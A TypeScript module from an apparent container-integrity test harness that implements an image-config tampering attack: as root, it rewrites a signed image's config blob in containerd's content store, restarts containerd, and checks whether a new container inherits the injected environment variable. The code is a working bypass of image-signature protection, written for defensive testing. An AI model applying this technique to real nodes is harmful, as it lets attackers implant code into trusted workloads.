/**
 * Attack (T1525 Implant Internal Image, T1574 Hijack Execution Flow): root on
 * the node edits a pulled signed image's config blob in containerd's content
 * store (adding an environment variable, as an LD_PRELOAD or proxy injection
 * would) and restarts containerd, which reloads image configs from the
 * content store without hashing them again. The next container from the
 * image starts with the attacker's config. The config is covered by the
 * signature only through the manifest's config digest, so only a check of
 * the config bytes against that digest at start catches it.
 */
import type { Technique } from '../technique.ts';
import type { HarnessCommand } from '../outcome.ts';
import { harnessExec, requirePayload } from './common.ts';
import { tryStart } from './start.ts';

const CONTENT = '/var/lib/containerd/io.containerd.content.v1.content/blobs/sha256';
export const INJECTED_VARIABLE = 'INTEGRITY_LAB_INJECTED';

export const imageConfigTamper: Technique = {
  name: 'image-config-tamper',
  async run({ node, attack, workload, pods }) {
    const payload = requirePayload(attack);
    const ref = node.imageRef(workload.spec.image.repository, workload.spec.image.tag);
    await node.pushImage(workload.spec.image);
    await node.cri.pullImage(ref);

    // As root: image record → manifest blob → config blob.
    const ls = (await node.run(['ctr', '-n', 'k8s.io', 'images', 'ls', `name==${ref}`])).stdout.toString();
    const manifestDigest = ls.split('\n').find((l) => l.startsWith(`${ref} `))?.trim().split(/\s+/)[2] ?? '';
    const manifest = JSON.parse((await node.readFile(`${CONTENT}/${manifestDigest.slice(7)}`)).toString()) as { config: { digest: string } };
    const configPath = `${CONTENT}/${manifest.config.digest.slice(7)}`;
    const config = JSON.parse((await node.readFile(configPath)).toString()) as { config?: { Env?: string[] } };
    config.config = { ...config.config, Env: [...(config.config?.Env ?? []), `${INJECTED_VARIABLE}=${payload}`] };
    await node.run(['sh', '-c', 'cat > "$1"', 'sh', configPath], { input: Buffer.from(JSON.stringify(config)) });
    await node.restartContainerd();

    const evidence: Record<string, unknown> = { ref, manifestDigest, configDigest: manifest.config.digest, configBlob: configPath, injected: `${INJECTED_VARIABLE}=${payload}` };
    const start = await tryStart(node, workload, pods);
    if (!start.started) return { effect: false, reason: `the container did not start (${start.stage}): ${start.reason}`, evidence: { ...evidence, refusal: start.reason } };
    const harnessCommands: HarnessCommand[] = [];
    const environ = (await harnessExec(node, start.pod.containers[0]!.id, 'read the environment of the container\'s process', ['cat', '/proc/1/environ'], harnessCommands)).stdout.toString().split('\0');
    evidence.environment = environ;
    return environ.includes(`${INJECTED_VARIABLE}=${payload}`)
      ? { effect: true, reason: `the container started with the attacker's config: its process has ${INJECTED_VARIABLE}=${payload}`, evidence, harnessCommands }
      : { effect: false, reason: 'the container started with the signed config', evidence, harnessCommands };
  },
};
